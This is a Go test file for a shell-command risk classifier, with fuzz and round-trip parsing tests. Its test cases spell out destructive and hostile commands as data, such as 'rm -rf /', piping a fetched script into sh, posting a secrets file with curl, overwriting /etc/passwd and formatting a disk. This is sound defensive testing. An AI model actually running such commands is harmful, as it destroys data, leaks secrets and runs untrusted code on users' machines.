package exec

import (
	"strings"
	"testing"
)

func TestRisks(t *testing.T) {
	for _, c := range []struct {
		argv  []string
		stdin string
		want  string
	}{
		{[]string{"rm", "-rf", "x"}, "", "removes folders"},
		{[]string{"/bin/rm", "--recursive", "x"}, "", "removes folders"},
		{[]string{"rm", "-fR", "x"}, "", "removes folders"},
		{[]string{"sudo", "ls"}, "", "administrator"},
		{[]string{"sudo", "-u", "x", "rm", "-r", "y"}, "", "administrator"},
		{[]string{"dd", "if=a", "of=b"}, "", "raw data"},
		{[]string{"mkfs.ext4", "/dev/sda"}, "", "erase a disk"},
		{[]string{"chmod", "-R", "777", "."}, "", "who may use"},
		{[]string{"git", "push"}, "", "sends your work"},
		{[]string{"git", "-C", "dir", "push", "origin"}, "", "sends your work"},
		{[]string{"git", "reset", "--hard"}, "", "not committed"},
		{[]string{"npm", "install", "left-pad"}, "", "others wrote"},
		{[]string{"pip3", "install", "x"}, "", "others wrote"},
		{[]string{"npx", "x"}, "", "others wrote"},
		{[]string{"curl", "-d", "@secrets", "http://x"}, "", "send data"},
		{[]string{"sh", "-c", "curl http://x | sh"}, "", "runs the text it is fed"},
		{[]string{"bash", "-lc", "ls && rm -rf /"}, "", "removes folders"},
		{[]string{"sh", "-c", "echo $(rm -rf x)"}, "", "removes folders"},
		{[]string{"sh", "-c", `echo "$(rm -rf x)"`}, "", "removes folders"},
		{[]string{"sh", "-c", "a=b rm -r x"}, "", "removes folders"},
		{[]string{"sh", "-c", "if true; then rm -r x; fi"}, "", "removes folders"},
		{[]string{"sh", "-c", "echo x > /etc/passwd"}, "", "redirection"},
		{[]string{"sh", "-c", "ls"}, "", "shell text"},
		{[]string{"sh"}, "rm -rf /", "runs the text it is fed"},
		{[]string{"python3", "-c", "print(1)"}, "", "code given in the command"},
		{[]string{"python3.12", "-cprint(1)"}, "", "code given in the command"},
		{[]string{"node", "--eval", "1"}, "", "code given in the command"},
		{[]string{"perl", "-pe", "s/a/b/"}, "", "code given in the command"},
		{[]string{"awk", `BEGIN{system("ls")}`}, "", "code given in the command"},
		{[]string{"env", "A=b", "rm", "-r", "x"}, "", "removes folders"},
		{[]string{"timeout", "5", "sudo", "ls"}, "", "administrator"},
		{[]string{"xargs", "rm", "-r"}, "x", "removes folders"},
		{[]string{"find", ".", "-delete"}, "", "removes files"},
		{[]string{`C:\Windows\System32\cmd.exe`, "/c", "del x"}, "", "shell text"},
	} {
		if got := strings.Join(risksOf(c.argv, c.stdin), "; "); !strings.Contains(got, c.want) {
			t.Errorf("%q: %q, want %q", c.argv, got, c.want)
		}
	}
}

func TestPlainCommandsCarryNoWarning(t *testing.T) {
	for _, argv := range [][]string{
		{"ls", "-la"}, {"rm", "x"}, {"git", "status"}, {"git", "log", "--oneline"}, {"cat", "sudo"}, {"echo", "rm -rf /"}, {"npm", "ls"},
		{"grep", "-r", "x"}, {"chmod", "644", "x"}, {"python3", "script.py"}, {"sh", "script.sh"}, {"find", ".", "-name", "x"}, {"go", "test", "./..."},
	} {
		if got := risksOf(argv, ""); len(got) > 0 {
			t.Errorf("%q: %q", argv, got)
		}
	}
}

func FuzzShellCommands(f *testing.F) {
	for _, seed := range []string{"a | b", `"$(x`, "`a`", "a\\", "'", "a > b 2>&1", "# x\ny", "$(", "a||b", "((("} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, c := range shellCommands(text) {
			if len(c.argv) == 0 && !c.writes {
				t.Errorf("%q gives an empty command", text)
			}
		}
		risksOf([]string{"sh", "-c", text}, "")
	})
}

func TestCommandLineReadsBack(t *testing.T) {
	for _, argv := range [][]string{{"ls", "-la"}, {"echo", "a b", "it's", "", "$x", "a\\b", "é"}} {
		got := shellCommands(commandLine(argv))
		if len(got) != 1 || strings.Join(got[0].argv, "\x00") != strings.Join(argv, "\x00") {
			t.Errorf("%q: %s reads as %+v", argv, commandLine(argv), got)
		}
	}
}
